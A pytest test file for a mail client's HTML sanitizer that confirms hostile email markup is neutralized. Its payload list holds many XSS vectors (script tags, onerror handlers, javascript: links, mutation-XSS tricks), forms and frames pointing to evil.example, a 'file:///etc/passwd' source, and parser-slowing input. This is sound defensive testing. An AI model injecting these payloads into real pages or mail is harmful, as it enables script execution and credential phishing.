"""Hostile HTML mail: what is left acts on nobody, whoever looks at it."""

import time
from html.parser import HTMLParser

import pytest

from cangke.desk.channels.html import TAGS, clean_html, html_to_text

SENTINELS = [
    "<script>sentinel()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=sentinel()>",
    "<svg onload=sentinel()><script>sentinel()</script></svg>",
    "<svg><style><img src=x onerror=sentinel()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=sentinel()>",
    '<a href="javascript:sentinel()">x</a>',
    '<a href=" jav&#x09;ascript:sentinel()">x</a>',
    '<a href="data:text/html,<script>sentinel()</script>">x</a>',
    '<a href="vbscript:sentinel()">x</a>',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>sentinel()</script>"></iframe>',
    '<object data="//evil.example/x.swf"></object><embed src="//evil.example/y">',
    '<form action="//evil.example"><input name=password><button>ok</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '<div hx-get="/desk/" hx-trigger="load" data-hx-post="/desk/">x</div>',
    '<div id="ck-dialog" class="ck-btn" data-ck-confirm="x">x</div>',
    '<video src="//evil.example/v" autoplay onplay=sentinel()></video>',
    "<details open ontoggle=sentinel()>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=sentinel()>'>",
    "<template><script>sentinel()</script></template>",
    "<!--<img src='--><img src=x onerror=sentinel()>-->",
    '<p title="x" onmouseover="sentinel()">x',
    "<xmp><img src=x onerror=sentinel()></xmp>",
    "<textarea><img src=x onerror=sentinel()></textarea>",
    '<a href="//evil.example">x</a>',
    '<a href="/desk/c/1/close/">x</a>',
]
KEPT = {"href", "title", "src", "alt", "width", "height", "colspan", "rowspan", "align", "rel"}


class Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, list[str]] = {}
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")


@pytest.mark.parametrize("html", SENTINELS)
def test_nothing_that_acts_is_left(html):
    """Design security 28: attributes that load, ids, classes and styles."""
    for written in (html, f"<p>{html}</p>", f"<table><tr><td>{html}"):
        for cleaned in (clean_html(written).html, clean_html(written, remote=True).html):
            seen = Seen(cleaned)
            assert seen.tags <= TAGS, cleaned
            assert set(seen.attributes) <= KEPT, cleaned
            links = seen.attributes.get("href", []) + seen.attributes.get("src", [])
            assert all(link.startswith(("http", "//evil", "mailto:")) for link in links), cleaned
            assert clean_html(cleaned, remote=True).html == cleaned


def test_links_lead_out_only_and_tell_nobody_where_they_were():
    html = clean_html('<a href="https://ok.example/a?b=1" target=_top>x</a>').html
    assert html == '<a href="https://ok.example/a?b=1" rel="noopener noreferrer nofollow">x</a>'
    assert "mailto:a@b.example" in clean_html('<a href="mailto:a@b.example">x</a>').html


def test_pictures_from_elsewhere_wait_for_a_click():
    """Design security 29: remote pictures."""
    html = '<img src="https://t.example/p.gif"><img src="//t.example/q.gif"><img src="cid:a">'
    blocked = clean_html(html, pictures={"a": "/files/k"})
    assert blocked.remote_images == 2
    assert "t.example" not in blocked.html
    assert 'src="/files/k"' in blocked.html
    shown = clean_html(html, remote=True)
    assert shown.html.count("t.example") == 2
    assert "cid:" not in shown.html


@pytest.mark.parametrize("src", ["/desk/c/1/close/", "x", "file:///etc/passwd", "http:evil", ""])
def test_a_picture_of_ours_comes_from_the_mails_own_files_only(src):
    """Design security 29: pictures by cid."""
    assert "src" not in clean_html(f'<img src="{src}">', pictures={"a": "/files/k"}).html


def test_html_reads_as_plain_lines():
    html = "<p>一<br>二</p><ul><li>甲<li>乙</ul><blockquote>旧</blockquote><p>&lt;b&gt;&amp;"
    assert html_to_text(html) == "一\n二\n- 甲\n- 乙\n> 旧\n<b>&"


def test_a_million_brackets_take_no_time():
    """Design security 40: text made to be slow."""
    started = time.monotonic()
    for bomb in ("<" * 500_000, "<div>" * 100_000, "<a href='" * 100_000, "[" * 1_000_000):
        clean_html(bomb)
        html_to_text(bomb)
    assert time.monotonic() - started < 20
